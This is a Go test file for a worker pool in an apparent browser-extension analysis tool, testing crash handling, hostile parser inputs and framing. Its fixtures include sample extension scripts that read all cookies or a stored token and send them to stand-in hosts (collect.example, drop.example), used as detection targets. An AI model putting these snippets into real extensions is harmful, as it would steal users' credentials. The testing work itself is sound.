package analysis

import (
	"context"
	"fmt"
	"io"
	"io/fs"
	"os"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/extwatch/extwatch/manifests"
)

// The test binary is its own worker, and one that misbehaves.
func TestMain(m *testing.M) {
	if len(os.Args) > 1 {
		switch os.Args[1] {
		case "analysis-worker":
			if err := Serve(os.Stdin, os.Stdout); err != nil {
				fmt.Fprintln(os.Stderr, err)
				os.Exit(1)
			}
			os.Exit(0)
		case "bad-worker":
			os.Exit(badWorker(os.Args[2]))
		}
	}
	os.Exit(m.Run())
}

// badWorker serves as a worker that dies or hangs at every file named bad.js.
func badWorker(how string) int {
	if how == "mute" {
		return 1
	}
	real := &spy{w: os.Stdout, how: how}
	if err := Serve(os.Stdin, real); err != nil {
		return 1
	}
	return 0
}

type spy struct {
	w   io.Writer
	how string
}

func (s *spy) Write(p []byte) (int, error) {
	n, err := s.w.Write(p)
	bad := len(p) > headerLength && p[0] == framePhase && phase(p[headerLength]) == parsing && strings.HasSuffix(string(p), "bad.js")
	if s.how == "flows" {
		bad = len(p) > headerLength && p[0] == framePhase && phase(p[headerLength]) == following
	}
	if s.how == "always" {
		bad = len(p) > headerLength && p[0] == framePhase
	}
	if s.how == "garbage" && p[0] == frameRead {
		fmt.Fprint(s.w, "this is no frame at all, but something else")
	}
	if bad {
		switch s.how {
		case "hang":
			time.Sleep(time.Minute)
		case "overflow":
			fmt.Fprint(io.Discard, overflow(1))
		case "memory":
			var keep [][]byte
			for range 64 {
				b := make([]byte, 64<<20)
				for i := range b {
					b[i] = 1
				}
				keep = append(keep, b)
			}
			fmt.Fprint(io.Discard, len(keep))
		}
		os.Exit(3)
	}
	return n, err
}

// overflow ends the process: Go cannot recover from it. The condition, always true, is for those who check code.
func overflow(n int) int {
	if n > 0 {
		return overflow(n+1) + n
	}
	return 0
}

func sample() (*manifests.Manifest, fs.FS) {
	m := &manifests.Manifest{Background: manifests.Background{Scripts: []string{"a.js", "bad.js", "z.js"}}}
	return m, pack(map[string]string{"a.js": `chrome.cookies.getAll({})`, "bad.js": `fetch("https://bad.example/")`, "z.js": `fetch("https://z.example/")`})
}

func newTestPool(t *testing.T, n int, args ...string) *Pool {
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	p := NewPool(n, append([]string{exe}, args...))
	t.Cleanup(p.Close)
	return p
}

func TestPool(t *testing.T) {
	p := newTestPool(t, 1, "analysis-worker")
	m, files := sample()
	want := Analyze(context.Background(), Input{Manifest: m, Files: files})
	for range 3 {
		got, err := p.Analyze(context.Background(), Input{Manifest: m, Files: files})
		if err != nil {
			t.Fatal(err)
		}
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("the worker found\n%v, not\n%v", got, want)
		}
	}
}

// A worker that goes wrong is replaced, costs one file at most, and that is told.
func TestPoolReplaces(t *testing.T) {
	for _, how := range []string{"exit", "hang", "overflow", "memory", "garbage", "flows", "always"} {
		t.Run(how, func(t *testing.T) {
			p := newTestPool(t, 1, "bad-worker", how)
			p.silence = 20 * time.Second // of a machine that is busy with other tests
			if how == "hang" {
				p.silence = 6 * time.Second
			}
			m, files := sample()
			got, err := p.Analyze(context.Background(), Input{Manifest: m, Files: files})
			if err != nil {
				t.Fatal(err)
			}
			if got.Complete || len(got.Problems) == 0 {
				t.Errorf("nothing is said about it: %+v", got)
			}
			blamed := false
			for _, problem := range got.Problems {
				blamed = blamed || problem.File == "bad.js" && strings.Contains(problem.Reason, "stopped")
			}
			single := how != "garbage" && how != "flows" && how != "always"
			if blamed != single {
				t.Errorf("problems: %v", got.Problems)
			}
			if single && len(got.Contacts) != 2 {
				t.Errorf("contacts: %v", got.Contacts)
			}
		})
	}
}

// What parsers of this kind choke on costs nothing but itself.
func TestPoolHostile(t *testing.T) {
	many := strings.Repeat
	files := map[string]string{
		"0.js": many("!", 200_000) + "fetch()", "1.js": many("async(a?(", 40) + "fetch", "2.js": "fetch(" + many("[", 300_000),
		"3.js": "fetch(a" + many("?a:b", 50_000) + ")", "4.js": "`${" + many("a=>{", 100_000), "5.js": many("let let;", 30_000) + "eval",
		"good.js": `chrome["cookies"].getAll({}, c => fetch("https://collect.example/", {body: c}))`,
		"9.html":  many("<b onclick='fetch()'>", 10_000),
	}
	p := newTestPool(t, 1, "analysis-worker")
	r, err := p.Analyze(context.Background(), Input{Files: pack(files)})
	if err != nil {
		t.Fatal(err)
	}
	if r.Complete {
		t.Error("said to be complete")
	}
	good := false
	for _, c := range r.Contacts {
		good = good || c.Host == "collect.example"
	}
	if !good {
		t.Errorf("the good script was not read: %v", r.Problems)
	}
}

func TestPoolErrors(t *testing.T) {
	m, files := sample()
	if _, err := newTestPool(t, 1, "bad-worker", "mute").Analyze(context.Background(), Input{Manifest: m, Files: files}); err == nil {
		t.Error("a worker that says nothing is no error")
	}
	p := NewPool(1, []string{"/nonexistent/worker"})
	defer p.Close()
	for range 2 {
		if _, err := p.Analyze(context.Background(), Input{Manifest: m, Files: files}); err == nil {
			t.Error("a worker that cannot be started is no error")
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 300*time.Millisecond)
	defer cancel()
	if _, err := newTestPool(t, 1, "bad-worker", "hang").Analyze(ctx, Input{Manifest: m, Files: files}); err == nil {
		t.Error("the end of the context is no error")
	}
}

func TestPoolAfterDeath(t *testing.T) {
	p := newTestPool(t, 1, "analysis-worker")
	m, files := sample()
	for range 2 {
		if _, err := p.Analyze(context.Background(), Input{Manifest: m, Files: files}); err != nil {
			t.Fatal(err)
		}
		s := <-p.roomy
		_ = s.worker.command.Process.Kill()
		p.roomy <- s
	}
}

// TestPoolGiant has a giant come to a worker that may not use the memory for it: it goes to the one that may.
func TestPoolGiant(t *testing.T) {
	p := newTestPool(t, 2, "analysis-worker")
	code := "chrome.storage.local.get('token', (t) => fetch('https://drop.example/?' + t.token)); /*" + strings.Repeat("x", giantCode) + "*/"
	m := &manifests.Manifest{Background: manifests.Background{Scripts: []string{"a.js"}}}
	files := pack(map[string]string{"a.js": code})
	roomy := <-p.roomy
	time.AfterFunc(time.Second/2, func() { p.roomy <- roomy })
	r, err := p.Analyze(context.Background(), Input{Manifest: m, Files: files})
	if err != nil || len(r.Calls) == 0 {
		t.Errorf("%d calls, %v, %v", len(r.Calls), r.Problems, err)
	}
	if roomy = <-p.roomy; roomy.worker == nil {
		t.Error("the roomy worker was not asked")
	}
	p.roomy <- roomy
}

func TestServedRefuses(t *testing.T) {
	s, _ := listFiles(fstest.MapFS{"a": {Data: []byte("text")}})
	defer s.close()
	for _, request := range [][]byte{nil, []byte("x"), readRequest(1, 0, 10), readRequest(1<<31, 0, 10)} {
		if kind, _ := s.read(request); kind != frameError {
			t.Errorf("%v was served", request)
		}
	}
	for _, test := range []struct {
		offset int64
		n      int
		want   string
	}{{0, 2, "te"}, {2, 10, "xt"}, {4, 10, ""}, {1, 2, "ex"}, {1 << 60, 5, ""}} {
		if kind, data := s.read(readRequest(0, test.offset, test.n)); kind != frameData || string(data) != test.want {
			t.Errorf("at %d: %q %q", test.offset, kind, data)
		}
	}
}

func FuzzFrame(f *testing.F) {
	f.Add([]byte("D\x03\x00\x00\x00abc"))
	f.Add([]byte("R\xff\xff\xff\x03"))
	f.Fuzz(func(t *testing.T, data []byte) {
		var buf []byte
		r := strings.NewReader(string(data))
		for {
			_, payload, err := readFrame(r, &buf)
			if err != nil {
				return
			}
			parseReadRequest(payload)
		}
	})
}

// Two may end a pool at the same time: whoever stops the program, and the last analysis of a crew that was let go.
func TestPoolCloseTwice(t *testing.T) {
	p := NewPool(2, nil)
	done := make(chan struct{})
	for range 2 {
		go func() {
			p.Close()
			done <- struct{}{}
		}()
	}
	for range 2 {
		select {
		case <-done:
		case <-time.After(30 * time.Second):
			t.Fatal("it is still closing")
		}
	}
}
